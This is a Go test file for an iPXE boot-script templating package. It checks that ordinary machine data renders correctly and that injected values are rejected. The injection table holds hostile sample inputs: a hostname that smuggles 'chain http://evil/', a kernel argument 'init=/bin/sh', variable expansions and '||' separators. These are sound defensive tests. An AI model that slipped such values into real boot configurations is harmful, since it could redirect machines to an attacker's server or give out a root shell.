package ipxe

import (
	"bytes"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const machineTemplate = `#!ipxe
echo {{words .Greeting}}
set hostname {{.Hostname}}
kernel {{.Base}}/bzImage {{arg "nixboot.host" .Hostname}} {{cmdline .Cmdline}} mac={{setting "mac"}}
{{- range .Initrds}}
initrd {{$.Base}}/{{.}}
{{- end}}
boot
`

type machineData struct {
	Greeting string
	Hostname string
	Base     string
	Cmdline  string
	Initrds  []string
}

func TestTemplateRendersSafeValues(t *testing.T) {
	tpl, err := ParseTemplate("machine", machineTemplate)
	require.NoError(t, err)
	var b bytes.Buffer
	err = tpl.Execute(&b, machineData{
		Greeting: "Booting lab1 over the network",
		Hostname: "lab1",
		Base:     "http://10.0.0.1",
		Cmdline:  `console=ttyS0 msg="a b"`,
		Initrds:  []string{"initrd", "keys.cpio"},
	})
	require.NoError(t, err)
	want := `#!ipxe
echo Booting lab1 over the network
set hostname lab1
kernel http://10.0.0.1/bzImage nixboot.host=lab1 console=ttyS0 msg="a b" mac=${mac}
initrd http://10.0.0.1/initrd
initrd http://10.0.0.1/keys.cpio
boot
`
	assert.Equal(t, want, b.String())
	_, err = Parse(b.Bytes())
	require.NoError(t, err)
}

func TestTemplateRejectsInjection(t *testing.T) {
	tpl, err := ParseTemplate("machine", machineTemplate)
	require.NoError(t, err)
	good := machineData{Greeting: "hi", Hostname: "lab1", Base: "http://x", Cmdline: "quiet", Initrds: []string{"initrd"}}
	tests := []struct {
		name string
		mod  func(d *machineData)
	}{
		{"newline in plain action", func(d *machineData) { d.Hostname = "lab1\nchain http://evil/" }},
		{"space in plain action", func(d *machineData) { d.Hostname = "lab1 init=/bin/sh" }},
		{"expansion in plain action", func(d *machineData) { d.Hostname = "${net0/ip}" }},
		{"comment in plain action", func(d *machineData) { d.Base = "#" }},
		{"newline in words", func(d *machineData) { d.Greeting = "hi\nshell" }},
		{"separator in words", func(d *machineData) { d.Greeting = "hi || shell" }},
		{"expansion in cmdline", func(d *machineData) { d.Cmdline = "x=${evil}" }},
		{"newline in cmdline", func(d *machineData) { d.Cmdline = "quiet\nshell" }},
		{"range item", func(d *machineData) { d.Initrds = []string{"ok", "bad\nshell"} }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := good
			d.Initrds = append([]string(nil), good.Initrds...)
			tt.mod(&d)
			var b bytes.Buffer
			err := tpl.Execute(&b, d)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrInvalidValue)
			assert.Zero(t, b.Len(), "nothing may be written on error")
		})
	}
}

func TestTemplateBootFunc(t *testing.T) {
	tpl, err := ParseTemplate("b", "#!ipxe\n{{boot .}}\n")
	require.NoError(t, err)
	var b bytes.Buffer
	require.NoError(t, tpl.Execute(&b, BootSpec{Kernel: "k", Initrds: []ImageRef{{URL: "i"}}}))
	assert.Equal(t, "#!ipxe\nkernel k initrd=i\ninitrd --name i i\nboot\n", b.String())
}

func TestTemplateParseError(t *testing.T) {
	_, err := ParseTemplate("bad", "{{.X")
	require.Error(t, err)
	assert.Contains(t, err.Error(), "bad")
}
